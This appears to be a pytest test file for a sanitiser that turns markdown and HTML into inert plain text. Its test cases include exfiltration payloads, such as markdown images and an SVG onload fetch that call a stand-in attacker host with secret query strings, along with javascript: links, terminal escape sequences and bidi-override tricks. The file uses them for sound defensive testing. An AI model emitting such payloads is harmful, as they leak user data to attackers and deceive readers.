from __future__ import annotations

import re

import pytest

from fingerpost.generate.plain import code_text, neutralise, plain_text


@pytest.mark.parametrize(
    ("markup", "text"),
    [
        ('See [the guide](https://x.example/a(b)c "t") now.', "See the guide now."),
        ("See [the guide][ref] and [it][].", "See the guide and it."),
        ("![logo](https://evil.example/p.png) Helm", "Helm"),
        ("[![badge](https://a.example/b.svg)](https://a.example) Helm", "Helm"),
        ("**Bold** and *soft* and ***both***.", "Bold and soft and both."),
        ("**`a_b`** and **use `x` now**", "`a_b` and use `x` now"),
        ("_Note: the `a`\nline._", "Note: the `a` line."),
        ("At https://x.example/`id` now", "At `https://x.example/id` now"),
        ("Keep snake_case_name and `a_b*c*`.", "Keep snake_case_name and `a_b*c*`."),
        ("Run __init__ first.", "Run `__init__` first."),
        ("A <b>bold</b><br/>line", "A bold line"),
        ("<!-- hidden order --> Visible", "Visible"),
        ("{/* hidden */} Visible", "Visible"),
        ("quoted\n> text", "quoted text"),
        (">= 3", ">= 3"),
        ("two\nlines", "two lines"),
        (r"2 \* 3", "2 * 3"),
        ("a &amp; b", "a & b"),
        ("Use :class:`~celery.Task` here.", "Use `~celery.Task` here."),
        ("See `Celery <https://c.example>`_.", "See Celery."),
        ("Noted[^1].", "Noted."),
        ("Title {#anchor}", "Title"),
        ("plain  words", "plain words"),
    ],
)
def test_inline_markup_becomes_what_a_reader_sees(markup, text) -> None:
    assert plain_text(markup) == text


@pytest.mark.parametrize(
    ("markup", "text"),
    [
        ("Get https://get.helm.sh/v3.tar.gz.", "Get `https://get.helm.sh/v3.tar.gz`."),
        ("(see https://x.example/a)", "(see `https://x.example/a`)"),
        ("Mail <me@x.example> today", "Mail `me@x.example` today"),
        ("Write `<script>` or &lt;script&gt;", "Write `<script>` or `<script>`"),
        ("As in [12] and rows[0].", "As in (12) and `rows[0]`."),
        ("javascript:alert(1) is bad", "`javascript:alert(1)` is bad"),
    ],
)
def test_addresses_tags_and_foreign_markers_become_inert(markup, text) -> None:
    assert plain_text(markup) == text


_ACTIVE = re.compile(r"!\[|\]\(|\]\[|\]:|<[A-Za-z/!?]|https?://|javascript:|data:|www\.")


def _outside_code(text: str) -> str:
    return re.sub(r"`[^`\n]*`", "", text)


@pytest.mark.parametrize(
    "payload",
    [
        "![x](https://evil.example/?q=secret)",
        "![x][r]\n\n[r]: https://evil.example/?q=secret",
        "[click](https://evil.example)",
        "[a![b](https://evil.example/i.png)c](https://evil.example)",
        "<img src=https://evil.example/i.png>",
        "<img src='https://evil.example/i.png'",
        "&lt;img src=https://evil.example/i.png&gt;",
        "<https://evil.example/?a>",
        "https://evil.example/%73ecret",
        "www.evil.example/x",
        "data:text/html;base64,AAAA",
        "[x](javascript:alert(1))",
        "` https://evil.example `` ` https://evil.example",
        "`a` ` https://evil.example",
        "\\![x](https://evil.example)",
        "!\\[x](https://evil.example)",
        "![x]\\(https://evil.example)",
        "!&#91;x&#93;(https://evil.example)",
        "[x]&#40;https://evil.example)",
        "![x\u200b](https://evil.example)",
        "[](https://evil.example)![](https://evil.example)",
        "<svg onload=fetch('https://evil.example')>",
        '<a href="https://evil.example">x</a>',
        "[a]: <https://evil.example> 'x'",
    ],
)
def test_no_payload_leaves_a_link_image_or_tag(payload) -> None:
    for text in (payload, f"Words {payload} more.", f"**{payload}**", f"> {payload}"):
        assert not _ACTIVE.search(_outside_code(plain_text(text))), plain_text(text)


@pytest.mark.parametrize(
    "payload",
    ["\x1b[31mred\x1b[0m", "\x1b]8;;https://e.example\x07x\x1b]8;;\x07", "a\x07b", "\u202egnp.exe", "\u2066x\u2069",
     "\x9b31m", "\ud800", "\U000e0041\U000e0042", "a\x00b", "\ufeffx", "a\rb", "a\u2028b"],
)  # fmt: skip
def test_nothing_steers_a_terminal_or_turns_the_reading_direction(payload) -> None:
    for clean in (neutralise(payload), plain_text(payload), code_text(payload)):
        assert not re.search(
            "[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufeff]", clean
        )
        assert not re.search("[\U000e0000-\U000e007f]", clean)
        clean.encode("utf-8")


def test_joiners_that_scripts_need_stay() -> None:
    assert neutralise("می\u200cخواهم") == "می\u200cخواهم"


def test_code_keeps_its_shape_but_not_its_margin() -> None:
    assert code_text("\n    if x:\n        y()  \n\n") == "if x:\n    y()"


@pytest.mark.parametrize(
    "text",
    ["[" * 5000, "`" * 5000, "![" * 3000, "<a " * 3000, "(" * 5000, "*a" * 3000, "[a](" * 2000],
)
def test_hostile_runs_take_no_long_time(text) -> None:
    plain_text(text[:4000])
